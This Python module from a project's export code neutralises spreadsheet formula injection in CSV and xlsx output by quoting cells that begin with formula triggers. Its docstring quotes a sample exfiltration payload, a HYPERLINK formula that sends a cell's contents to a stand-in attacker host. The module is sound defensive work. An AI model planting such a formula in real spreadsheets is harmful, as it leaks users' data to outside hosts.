"""Every CSV and xlsx file the project writes goes through here, so no cell becomes a live formula.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel (and
LibreOffice, Numbers, Google Sheets) as a formula: `=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")`
in a comment would turn an auditor's events.csv into a leak. OWASP's rule: prefix such text with a single
quote, which the spreadsheet shows as text. Numbers stay numbers: an int or float cell is left alone, and so
is text that is a plain number ("-12", "+3.5", "1e-3"), which no spreadsheet evaluates as a formula.

Writers: `csv_writer` / `csv_dict_writer` (the csv module's, neutralising each row) and `workbook` (an
openpyxl Workbook whose sheets neutralise what `append` and `cell(value=…)` put in). No other module
constructs a csv writer or an openpyxl Workbook (tests/pdf_templates/test_formula_injection.py walks the sources).
A reader of a file written here undoes the prefix with `unquote`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """`value`, made safe for a spreadsheet cell: text that would start a formula gets a leading quote."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def unquote(value: Any) -> Any:
    """What `neutralise` was given: reading back a file written here (an export re-imported)."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [_neutralise_cell(value) for value in values]


def _neutralise_cell(value: Any) -> Any:
    # An openpyxl cell object (a styled WriteOnlyCell) carries its value.
    if hasattr(value, "value") and hasattr(value, "font"):
        value.value = neutralise(value.value)
        return value
    return neutralise(value)


class _CsvWriter:
    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _CsvDictWriter:
    def __init__(self, writer) -> None:
        self._writer = writer

    def writeheader(self):
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]):
        return self._writer.writerow({key: neutralise(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _CsvWriter:
    """csv.writer(stream, **kwargs), every cell neutralised."""
    return _CsvWriter(csv.writer(stream, **kwargs))


def csv_dict_writer(stream, fieldnames, **kwargs) -> _CsvDictWriter:
    """csv.DictWriter(stream, fieldnames, **kwargs), every cell neutralised."""
    return _CsvDictWriter(csv.DictWriter(stream, fieldnames=fieldnames, **kwargs))


class _Sheet:
    """An openpyxl worksheet whose writes are neutralised; everything else is the worksheet's."""

    def __init__(self, sheet) -> None:
        object.__setattr__(self, "_sheet", sheet)

    def append(self, values: Iterable[Any]) -> None:
        self._sheet.append(neutralise_row(values))

    def cell(self, row: int, column: int, value: Any = None):
        return self._sheet.cell(row=row, column=column, value=neutralise(value))

    def __getattr__(self, name: str) -> Any:
        return getattr(self._sheet, name)

    def __setattr__(self, name: str, value: Any) -> None:
        setattr(self._sheet, name, value)


class _Workbook:
    """An openpyxl Workbook whose sheets neutralise (`active`, `create_sheet`); `save` as openpyxl's."""

    def __init__(self, *, write_only: bool) -> None:
        from openpyxl import Workbook

        self._book = Workbook(write_only=write_only)

    @property
    def active(self) -> _Sheet:
        return _Sheet(self._book.active)

    def create_sheet(self, title: str | None = None) -> _Sheet:
        return _Sheet(self._book.create_sheet(title))

    def save(self, out) -> None:
        self._book.save(out)


def workbook(*, write_only: bool = False) -> _Workbook:
    """A new xlsx workbook whose sheets neutralise every value written through them."""
    return _Workbook(write_only=write_only)
